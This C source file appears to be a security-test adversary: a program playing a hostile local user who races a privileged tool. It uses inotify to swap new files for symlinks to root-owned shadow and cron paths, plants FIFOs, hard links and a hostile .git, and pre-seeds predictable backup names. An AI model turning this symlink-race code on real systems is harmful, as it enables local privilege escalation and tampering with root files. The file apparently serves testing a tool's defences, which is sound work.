/* A hostile user of the host, who owns some directories and can write in others, and knows the playbook.
 *
 * attacker NAMES DIRECTORY...   replaces whatever appears in the directories, and below them, by links and by things of her own;
 *                               what she may not replace she forestalls: one of the words NAMES for each thing that appears.
 * attacker flip PATH            has a file and a link take turns at the path.
 *
 * She ends once there is something on her standard input, and says how often she acted. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define FILE_OF_ROOT "/srv/outside/shadow"
#define DIRECTORY_OF_ROOT "/srv/outside/cron.d"
#define ENTRY_OF_ROOT "/srv/outside/cron.d/entry"
/* A clone in whose configuration stands a program of hers. */
#define OWN_CLONE "/home/alice/evil"
#define MANY 16384

static char watched[MANY][256];
static char acted_on[MANY][256];
static int times[MANY];
static char fifos[64][PATH_MAX];
static int fifo_count, tricks, moves;
static char *names;
static int notify;

/* How often she has acted on a path before; on a very long one often enough. */
static int acted(const char *path) {
    unsigned long hash = 5381;
    if (strlen(path) > 255) return 3;
    for (const char *c = path; *c; c++) hash = hash * 33 + (unsigned char)*c;
    unsigned at = hash % MANY;
    while (acted_on[at][0] && strcmp(acted_on[at], path)) at = (at + 1) % MANY;
    snprintf(acted_on[at], sizeof acted_on[at], "%.255s", path);
    return times[at]++;
}

static void watch(const char *path) {
    int at = inotify_add_watch(notify, path, IN_CREATE | IN_MOVED_TO | IN_ONLYDIR);
    if (at >= 0 && at < MANY) snprintf(watched[at], sizeof watched[at], "%.255s", path);
}

/* A directory with everything in it that a kind looks for in its own. */
static void plant(const char *path) {
    static const char *const files[] = {"body", "code", "err", "head", "list", "modes", "old", "gone", "opened"};
    static const char *const directories[] = {"tree", "next", "last"};
    char inside[PATH_MAX];
    mkdir(path, 0777);
    for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
        snprintf(inside, sizeof inside, "%s/%s", path, files[i]);
        if (symlink(i % 2 ? FILE_OF_ROOT : ENTRY_OF_ROOT, inside)) continue;
    }
    for (unsigned i = 0; i < sizeof directories / sizeof *directories; i++) {
        snprintf(inside, sizeof inside, "%s/%s", path, directories[i]);
        if (symlink(DIRECTORY_OF_ROOT, inside)) continue;
    }
    snprintf(inside, sizeof inside, "%s/.git", path);
    if (symlink(OWN_CLONE "/.git", inside)) errno = 0;
}

/* Puts something of hers at a path where nothing is. */
static int lay(const char *path, int trick) {
    char own[PATH_MAX + 8];
    int fd;
    switch (trick % 8) {
    case 0: return symlink(FILE_OF_ROOT, path);
    case 1: return symlink(ENTRY_OF_ROOT, path);
    case 2: return symlink(DIRECTORY_OF_ROOT, path);
    case 3: return symlink(DIRECTORY_OF_ROOT "/new", path);
    case 4:
        snprintf(own, sizeof own, "%s.own", path);
        fd = open(own, O_WRONLY | O_CREAT, 0666);
        if (fd >= 0) close(fd);
        return link(own, path);
    case 5:
        if (fifo_count < 64) snprintf(fifos[fifo_count++], sizeof fifos[0], "%s", path);
        return mkfifo(path, 0666);
    case 6: plant(path); return 0;
    default: return symlink(OWN_CLONE, path);
    }
}

/* Another word of NAMES: the first one that is free where the event was. */
static void forestall(const char *directory) {
    char path[PATH_MAX], list[65536], *rest;
    struct stat meta;
    snprintf(list, sizeof list, "%s", names);
    for (char *name = strtok_r(list, " ", &rest); name; name = strtok_r(NULL, " ", &rest)) {
        snprintf(path, sizeof path, "%s/%s", directory, name);
        if (!lstat(path, &meta)) continue;
        static const int links[] = {0, 1, 2, 3, 7};
        if (!lay(path, links[moves++ % 5])) tricks++;
        return;
    }
}

static void react(const char *directory, const char *name, int is_directory) {
    char path[PATH_MAX], away[PATH_MAX + 32];
    size_t length = strlen(name);
    if (length > 4 && (!strcmp(name + length - 4, ".own") || !strcmp(name + length - 4, ".her"))) return;
    snprintf(path, sizeof path, "%s/%s", directory, name);
    int before = acted(path);
    if (before < 3) {
        snprintf(away, sizeof away, "%s.%d.her", path, moves);
        int trick = is_directory ? (moves % 2 ? 2 : 6) : moves;
        moves++;
        if (!rename(path, away)) {
            if (!lay(path, trick)) tricks++;
        } else if (errno == EPERM || errno == EACCES) {
            forestall(directory);
        }
    }
    if (is_directory) watch(path);
}

/* What waits at a FIFO gets a word: nothing of hers hangs a run for long. */
static void feed(void) {
    for (int i = 0; i < fifo_count; i++) {
        int fd = open(fifos[i], O_RDWR | O_NONBLOCK | O_NOFOLLOW);
        if (fd < 0) continue;
        struct stat meta;
        if (!fstat(fd, &meta) && S_ISFIFO(meta.st_mode)) {
            if (write(fd, "fed\n", 4) < 0) errno = 0;
            unlink(fifos[i]);
        }
        close(fd);
    }
    fifo_count = 0;
}

/* What is known beforehand: the names of working directories, and of backups by the second. */
static void prepare(const char *directory) {
    char path[PATH_MAX], list[65536], second[32], *rest;
    for (int pid = 1; pid < 4000; pid += 3) {
        snprintf(path, sizeof path, "%s/.pinboot-work.%d", directory, pid);
        if (symlink(DIRECTORY_OF_ROOT, path)) break;
    }
    snprintf(list, sizeof list, "%s", names);
    char *name = strtok_r(list, " ", &rest);
    for (int count = 0; name && count < 12; name = strtok_r(NULL, " ", &rest), count++) {
        for (time_t at = time(NULL), end = at + 90; at < end; at++) {
            strftime(second, sizeof second, "%Y%m%dT%H%M%SZ", gmtime(&at));
            snprintf(path, sizeof path, "%s/%s.bak-%s", directory, name, second);
            if (symlink(at % 2 ? DIRECTORY_OF_ROOT : ENTRY_OF_ROOT, path)) break;
        }
    }
}

static int is_over(void) {
    struct pollfd input = {0, POLLIN, 0};
    return poll(&input, 1, 0) > 0;
}

static int flip(const char *path) {
    char link_path[PATH_MAX], file_path[PATH_MAX];
    snprintf(link_path, sizeof link_path, "%s.link", path);
    snprintf(file_path, sizeof file_path, "%s.file", path);
    while (!is_over()) {
        int fd = open(file_path, O_WRONLY | O_CREAT | O_TRUNC, 0666);
        if (fd >= 0) {
            if (write(fd, "old", 3) != 3) errno = 0;
            close(fd);
        }
        rename(file_path, path);
        usleep(500);
        if (!symlink(tricks % 2 ? FILE_OF_ROOT : ENTRY_OF_ROOT, link_path) && !rename(link_path, path)) tricks++;
        usleep(500);
    }
    return 0;
}

int main(int count, char **words) {
    static char buffer[65536] __attribute__((aligned(8)));
    umask(0);
    /* A pipe of hers whose reader goes away does not end her. */
    signal(SIGPIPE, SIG_IGN);
    if (count == 3 && !strcmp(words[1], "flip")) {
        puts("ready");
        fflush(stdout);
        flip(words[2]);
        printf("acted %d times\n", tricks);
        return 0;
    }
    names = words[1];
    notify = inotify_init1(IN_NONBLOCK);
    for (int i = 2; i < count; i++) {
        prepare(words[i]);
        watch(words[i]);
    }
    puts("ready");
    fflush(stdout);
    struct pollfd both[2] = {{0, POLLIN, 0}, {notify, POLLIN, 0}};
    while (!(both[0].revents & (POLLIN | POLLHUP))) {
        if (poll(both, 2, 30) == 0) feed();
        ssize_t size = read(notify, buffer, sizeof buffer);
        for (char *at = buffer; size > 0 && at < buffer + size;) {
            struct inotify_event *event = (struct inotify_event *)at;
            if (event->len && event->wd >= 0 && event->wd < MANY && watched[event->wd][0])
                react(watched[event->wd], event->name, !!(event->mask & IN_ISDIR));
            at += sizeof *event + event->len;
        }
    }
    feed();
    printf("acted %d times\n", tricks);
    return 0;
}
